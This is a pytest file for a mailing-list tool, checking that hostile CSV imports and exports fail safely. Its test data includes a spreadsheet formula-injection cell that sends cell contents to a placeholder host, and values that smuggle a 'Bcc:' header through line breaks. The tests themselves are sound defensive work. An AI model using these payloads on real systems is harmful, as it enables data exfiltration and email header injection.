"""Hostile import and export files: each gets a clear error naming the file, line and field.

Already proven elsewhere (see docs/hostile-inputs.md): UTF-16 with a byte-order mark, cp1251
bytes, no email column, a duplicated column (tests/integration/test_import_files.py
::test_unreadable_files_exit_2_with_the_reason), a UTF-8 BOM, stray bytes late in a file,
CRLF inside an address and an unterminated quote at the end
(…::test_broken_records_are_reported_by_line),
formula cells on export (tests/integration/test_lists_and_people.py), erased and unsubscribed
people (tests/integration/test_import.py).
"""

from __future__ import annotations

import csv
import io
import json
import time
import tracemalloc
from datetime import UTC, datetime
from pathlib import Path

import pytest

from mailer.db import Database
from mailer.errors import ImportFileError
from mailer.importer import import_file
from mailer.importer.apply import ImportOptions
from tests.conftest import Cli, table_count


def run_import(cli: Cli, path: Path, *extra: str) -> tuple[int, dict[str, object], str]:
    result = cli(*extra, "subscribers", "import", str(path), "--list", "members", "--json")
    report = json.loads(result.stdout) if result.exit_code == 0 else {}
    return result.exit_code, report, result.stderr


def problems(report: dict[str, object]) -> dict[tuple[int, str], str]:
    listed = report["invalid"]
    assert isinstance(listed, list)
    return {(p["row"], p["field"]): p["error"] for p in listed}


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("email,name\nana@example.org,Ana\n".encode("utf-16-le"), "UTF-16 without a byte-order"),
        ("email,name\nana@example.org,Ana\n".encode("utf-32"), "file is UTF-32"),
        # a Latin-1 "é" in the first 64 KiB: the whole file is refused, with its line
        (b"email,name\nana@example.org,Ana\nbob@example.org,Andr\xe9\n", "0xE9 on line 3"),
    ],
    ids=["utf16-no-bom", "utf32-bom", "latin1-byte"],
)
def test_a_file_in_another_encoding_is_refused_before_anything_is_stored(
    cli: Cli, db: Database, tmp_path: Path, content: bytes, reason: str
) -> None:
    path = tmp_path / "people.csv"
    path.write_bytes(content)
    code, _, stderr = run_import(cli, path)
    assert code == 2
    assert reason in stderr
    assert "--encoding" in stderr  # says what to do
    assert table_count(db, "subscriber") == 0
    assert table_count(db, "list") == 0


def test_utf16_is_read_when_named(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_bytes("email,name\nnino@example.org,ნინო\n".encode("utf-16"))
    result = cli("subscribers", "import", str(path), "--list", "m", "--encoding", "utf-16")
    assert result.exit_code == 0, result.output
    person = json.loads(cli("subscribers", "show", "nino@example.org", "--json").stdout)
    assert person["name"] == "ნინო"


@pytest.mark.parametrize("name", ["\x00", "nope", "rot13", "base64"])
def test_an_unknown_or_malformed_encoding_is_refused(
    cli: Cli, db: Database, tmp_path: Path, name: str
) -> None:
    path = tmp_path / "people.csv"
    path.write_text("email,name\nana@example.org,Ana\n", encoding="utf-8")
    result = cli("subscribers", "import", str(path), "--list", "m", "--encoding", name)
    assert result.exit_code == 2, result.output
    assert "not a known text encoding (--encoding)" in result.stderr
    assert table_count(db, "subscriber") == 0


@pytest.mark.parametrize(
    ("row", "field"),
    [
        ("ana@example.org,An\x07a", "name"),  # BEL
        ("ana@example.org,Ana\x7f", "name"),  # DEL
        ("ana@example.org,Ana\u2028Bcc: x@y.example", "name"),  # Unicode line separator
        ("an\x00a@example.org,Ana", "email"),  # NUL in the address
        ('"ana@example.org\nBcc: x@y.example",Ana', "email"),  # LF inside a quoted address
        ("ana@example.org,Ana,x\x1by", "notes"),  # ESC in an attribute
    ],
    ids=["bel", "del", "u2028", "nul-email", "lf-email", "esc-attribute"],
)
def test_control_characters_make_their_row_invalid_naming_row_and_field(
    cli: Cli, db: Database, tmp_path: Path, row: str, field: str
) -> None:
    path = tmp_path / "people.csv"
    path.write_text(f"email,name,notes\nbob@example.org,Bob\n{row}\n", newline="")
    code, report, _ = run_import(cli, path)
    assert code == 0
    assert report["created"] == 1  # the good row still goes in
    assert problems(report) == {(3, field): "contains a control character or line break"}
    assert table_count(db, "subscriber") == 1


def test_unterminated_quote_in_a_large_file_names_the_lines_it_swallowed(
    cli: Cli, db: Database, tmp_path: Path
) -> None:
    # the quote on line 3 never closes: the parser reads until its 1 MiB field limit
    rows = "".join(f"p{i}@example.org,Name {i}\n" for i in range(40_000))
    path = tmp_path / "people.csv"
    path.write_text('email,name\nana@example.org,Ana\nbob@example.org,"Bob\n' + rows)
    code, report, _ = run_import(cli, path)
    assert code == 0
    ((row, field), error), *_ = problems(report).items()
    assert (row, field) == (3, "")
    assert "quote opened here is never closed" in error
    first, last = map(int, error.split("lines ")[1].split(" ")[0].split("-"))
    assert first == 3
    # every line is either imported or inside the reported range: none silently lost
    assert report["created"] == 1 + (40_003 - last)  # p0 is on line 4, p39999 on 40003
    assert table_count(db, "subscriber") == report["created"]


def test_addresses_differing_in_case_in_one_file_are_one_subscriber(
    cli: Cli, db: Database, tmp_path: Path
) -> None:
    path = tmp_path / "people.csv"
    path.write_text(
        "email,name\nAna.Petrova@Example.ORG,Ana\n"
        "ana.petrova@example.org ,\nANA.PETROVA@EXAMPLE.ORG,\n"
    )
    code, report, _ = run_import(cli, path)
    assert code == 0
    assert report["created"] == 1
    assert report["invalid"] == []
    assert table_count(db, "subscriber") == 1
    person = json.loads(cli("subscribers", "show", "ana.petrova@example.org", "--json").stdout)
    assert person["email"] == "Ana.Petrova@example.org"  # the first spelling, domain lower-cased


def test_an_erased_address_in_other_capitals_stays_suppressed(
    cli: Cli, db: Database, tmp_path: Path
) -> None:
    path = tmp_path / "people.csv"
    path.write_text("email\nana@example.org\n")
    assert run_import(cli, path)[0] == 0
    assert cli("subscribers", "erase", "ana@example.org", "--yes").exit_code == 0
    path.write_text("email,name\nANA@EXAMPLE.ORG,Ana\n")
    code, report, _ = run_import(cli, path)
    assert (code, report["suppressed"], report["created"]) == (0, 1, 0)
    assert table_count(db, "subscriber") == 0


def test_header_only_and_blank_rows_import_nothing_without_error(
    cli: Cli, db: Database, tmp_path: Path
) -> None:
    path = tmp_path / "people.csv"
    path.write_text("email,name\n\n,\n  ,  \n")
    code, report, _ = run_import(cli, path)
    assert code == 0
    assert report == {
        "created": 0,
        "updated": 0,
        "unchanged": 0,
        "suppressed": 0,
        "invalid": [],
        "new_interests": [],
    }
    assert table_count(db, "subscriber") == 0


def test_a_file_over_the_size_cap_is_refused_unread(cli: Cli, db: Database, tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text("email\n" + "".join(f"p{i}@example.org\n" for i in range(200)))
    code, _, stderr = run_import(cli, path, "--set", "importer.max_bytes=2000")
    assert code == 2
    assert str(path) in stderr
    assert "over the limit" in stderr
    assert "importer.max_bytes" in stderr
    assert table_count(db, "subscriber") == 0
    assert table_count(db, "list") == 0  # not even the list is created


def _import_measured(db: Database, path: Path, rows: int, prefix: str) -> tuple[int, int, float]:
    """Writes ``rows`` rows of ~3.9 KB and imports them 250 at a time, a batch about 1 MB;
    (file size, peak bytes, seconds). Fewer, longer rows: tracemalloc makes each row slow."""
    notes = "n" * 1920  # an attribute's cap is 2,000 characters: two of them
    with path.open("w", encoding="utf-8") as out:
        out.write("email,name,notes,more\n")
        for i in range(rows):
            out.write(f"{prefix}{i}@example.org,Person {i},{notes},{notes}\n")
    size = path.stat().st_size
    options = ImportOptions(list_name="members", batch_size=250, max_bytes=size)
    tracemalloc.start()
    started = time.monotonic()
    try:
        report = import_file(db, path, options, now=lambda: datetime(2026, 1, 1, tzinfo=UTC))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert report.created == rows
    return size, peak, time.monotonic() - started


@pytest.mark.scale
def test_a_large_file_is_streamed_in_bounded_memory(db: Database, tmp_path: Path) -> None:
    # 2.5 MB and 10 MB here; benchmarks/import_and_segment.py imports 1,000,000 rows (peak RSS)
    small_size, small_peak, _ = _import_measured(db, tmp_path / "small.csv", 650, "s")
    size, peak, _ = _import_measured(db, tmp_path / "large.csv", 2_600, "p")
    assert size > 10_000_000
    assert size >= 4 * small_size
    # four times the file, about the same memory: it is read and written a batch at a time
    assert peak < 1.5 * small_peak, f"{peak / 1e6:.1f} MB vs {small_peak / 1e6:.1f} MB"
    assert peak < size, f"peak {peak / 1e6:.1f} MB for a {size / 1e6:.1f} MB file"
    # one byte over the cap is refused unread
    with pytest.raises(ImportFileError, match=r"importer\.max_bytes"):
        import_file(
            db,
            tmp_path / "large.csv",
            ImportOptions(list_name="m", max_bytes=size - 1),
            now=lambda: datetime(2026, 1, 1, tzinfo=UTC),
        )


def test_export_neutralises_every_formula_start(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text(
        "email,name,+cmd\n"
        'a@example.org,=HYPERLINK("http://x.example?"&A1),+1\n'
        "b@example.org,+SUM(A1),-2\n"
        "c@example.org,-1+1,@A1\n"
        "d@example.org,@SUM(A1),plain\n"
        'e@example.org,"\tTab",x\n'
    )
    assert run_import(cli, path)[0] == 0
    exported = cli("subscribers", "export", "--list", "members")
    assert exported.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert {row["email"]: row["name"] for row in rows} == {
        "a@example.org": '\'=HYPERLINK("http://x.example?"&A1)',
        "b@example.org": "'+SUM(A1)",
        "c@example.org": "'-1+1",
        "d@example.org": "'@SUM(A1)",
        "e@example.org": "Tab",  # leading whitespace is trimmed on import
    }
    assert "'+cmd" in rows[0]  # an attribute name is a cell too
    assert [row["'+cmd"] for row in rows] == ["'+1", "'-2", "'@A1", "plain", "x"]
